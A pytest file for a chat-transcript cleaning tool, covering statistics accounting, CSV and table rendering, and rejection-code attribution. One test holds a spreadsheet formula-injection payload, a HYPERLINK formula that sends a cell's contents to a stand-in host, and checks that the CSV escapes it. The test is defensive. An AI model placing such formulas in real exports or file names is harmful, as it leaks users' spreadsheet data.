from __future__ import annotations

import csv
import io

import pyarrow as pa
import pytest

from transcript_clean.formats import get_format
from transcript_clean.pipeline import clean_batch
from transcript_clean.policy import STRICT
from transcript_clean.rows import RowResult, Violation
from transcript_clean.stats import AccountingError, Stats, render_accounting, render_table


def result(status: str, **actions: str) -> RowResult:
    violations = [Violation(code, 0, None, f"{code} here") for code in actions]
    return RowResult(
        status,
        violations,
        dict(actions),
        messages_in=4,
        messages_out=0 if status == "rejected" else 4,
    )  # type: ignore[arg-type]


def test_rows_are_counted_by_fate_and_code() -> None:
    stats = Stats()
    stats.add_row(result("unchanged"), "a", 0)
    stats.add_row(result("repaired", orphan_tool_result="repaired"), "a", 1)
    stats.add_row(result("rejected", malformed_row="rejected"), "a", 2)
    stats.add_row(
        result("repaired", empty_assistant_turn="dropped", orphan_tool_result="repaired"), "a", 3
    )
    stats.check()
    assert stats.counts() == {
        "rows_in": 4,
        "rows_kept": 3,
        "rows_repaired": 2,
        "rows_rejected": 1,
        "rows_clean": 1,
        "messages_in": 16,
        "messages_out": 12,
        "empty_turns_dropped": 1,
    }
    assert stats.rows_with_violations == 3
    records = stats.records()
    # in the order the cleaner meets the codes, not the order they were seen
    assert [(r["code"], r["action"], r["rows"]) for r in records] == [
        ("malformed_row", "rejected", 1),
        ("empty_assistant_turn", "dropped", 1),
        ("orphan_tool_result", "repaired", 2),
    ]
    assert records[2]["share"] == 0.5
    assert (records[2]["example_source"], records[2]["example_row"]) == ("a", 1)


def test_merge_keeps_the_first_example_and_adds_the_counts() -> None:
    first, second = Stats(), Stats()
    first.add_row(result("repaired", orphan_tool_result="repaired"), "a", 7)
    second.add_row(result("repaired", orphan_tool_result="repaired"), "b", 0)
    second.add_clean_rows(10, 40)
    first.merge(second)
    assert first.rows_in == 12 and first.rows_clean == 10 and first.messages_in == 48
    (record,) = first.records()
    assert (record["rows"], record["example_source"], record["example_row"]) == (2, "a", 7)
    assert Stats.from_dict(first.to_dict()) == first


def test_check_fails_when_a_row_is_lost() -> None:
    stats = Stats(rows_in=3, rows_kept=1, rows_rejected=1)
    with pytest.raises(AccountingError, match="3 rows in, but 1 kept \\+ 1 rejected = 2"):
        stats.check()


def test_csv_and_table_agree() -> None:
    stats = Stats()
    stats.add_row(result("rejected", no_assistant_turn="rejected"), "src", 5)
    rows = list(csv.DictReader(io.StringIO(stats.csv())))
    assert rows == [
        {
            "code": "no_assistant_turn",
            "action": "rejected",
            "rows": "1",
            "occurrences": "1",
            "share": "1.0",
            "example_source": "src",
            "example_row": "5",
        }
    ]
    assert stats.table().to_pylist() == stats.records()


def test_rendering() -> None:
    stats = Stats()
    assert render_table(stats.records()) == "no violations found"
    stats.add_row(result("repaired", orphan_tool_result="repaired"), "s|x", 0)
    text = render_table(stats.records())
    assert text.splitlines()[0].split() == [
        "code",
        "action",
        "rows",
        "occurrences",
        "share",
        "example",
    ]
    assert "100.00%" in text
    assert "| s\\|x\\#0 |" in render_table(stats.records(), markdown=True)  # no third cell
    assert render_accounting(stats) == "rows in 1 = kept 1 (repaired 1) + rejected 0"


@pytest.mark.parametrize("loaded", [True, False])
def test_the_summary_gives_datasets_version_only_when_it_is_loaded(
    monkeypatch: pytest.MonkeyPatch, loaded: bool
) -> None:
    import sys
    import types

    import pyarrow as pa

    from transcript_clean import __version__
    from transcript_clean.stats import run_summary

    if loaded:
        monkeypatch.setitem(sys.modules, "datasets", types.SimpleNamespace(__version__="9.8.7"))
    else:
        monkeypatch.delitem(sys.modules, "datasets", raising=False)
    summary = run_summary(
        Stats(),
        source="s",
        format="openai",
        column="messages",
        config={},
        fingerprint="f",
        seconds=1.0,
    )
    assert summary["versions"]["transcript_clean"] == __version__
    assert summary["versions"]["pyarrow"] == pa.__version__
    assert summary["versions"]["datasets"] == ("9.8.7" if loaded else None)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_never_starts_a_formula(start: str) -> None:
    # A spreadsheet runs a cell that starts so: a file named `=HYPERLINK(...).parquet` would.
    source = f'{start}HYPERLINK("http://x.example/?d="&A1,"open").parquet'
    stats = Stats(rows_in=1, rows_rejected=1)
    stats.add_code("malformed_row", "rejected", 1, 1, source, 0)
    rows = list(csv.DictReader(io.StringIO(stats.csv())))
    assert rows[0]["example_source"] == "'" + source
    assert stats.table().column("example_source")[0].as_py() == source  # the data stays as is
    plain = Stats(rows_in=1, rows_rejected=1)
    plain.add_code("malformed_row", "rejected", 1, 1, "raw/in.parquet", 0)
    assert next(csv.DictReader(io.StringIO(plain.csv())))["example_source"] == "raw/in.parquet"


# Issue 27, item 5: the code that decided a row's fate, told apart from codes merely present.
_TOOLS = [{"type": "function", "function": {"name": "get_weather", "parameters": {}}}]


def _calling(name: str) -> dict[str, object]:
    call = {"id": "c1", "type": "function", "function": {"name": name, "arguments": "{}"}}
    return {"role": "assistant", "content": None, "tool_calls": [call]}


@pytest.mark.parametrize("fast", [True, False])
def test_a_code_on_a_row_rejected_for_another_is_present_not_rejected(fast: bool) -> None:
    # The last turn calls an undeclared tool: unknown_tool rejects the row; its trailing call,
    # whose action is keep, did not decide anything.
    row = {"messages": [{"role": "user", "content": "q"}, _calling("launch")], "tools": _TOOLS}
    result = clean_batch(pa.Table.from_pylist([row]), format=get_format("openai"), fast=fast)
    assert result.rejects.column("_reject_codes").to_pylist() == [
        ["trailing_tool_call", "unknown_tool"]
    ]
    assert [(r["code"], r["action"], r["rows"]) for r in result.stats.records()] == [
        ("unknown_tool", "rejected", 1),
        ("trailing_tool_call", "present", 1),
    ]


def test_every_code_whose_action_is_reject_decides() -> None:
    row = {"messages": [{"role": "user", "content": "q"}, _calling("launch")], "tools": _TOOLS}
    result = clean_batch(pa.Table.from_pylist([row]), STRICT, format=get_format("openai"))
    assert [(r["code"], r["action"]) for r in result.stats.records()] == [
        ("unknown_tool", "rejected"),
        ("trailing_tool_call", "rejected"),
    ]
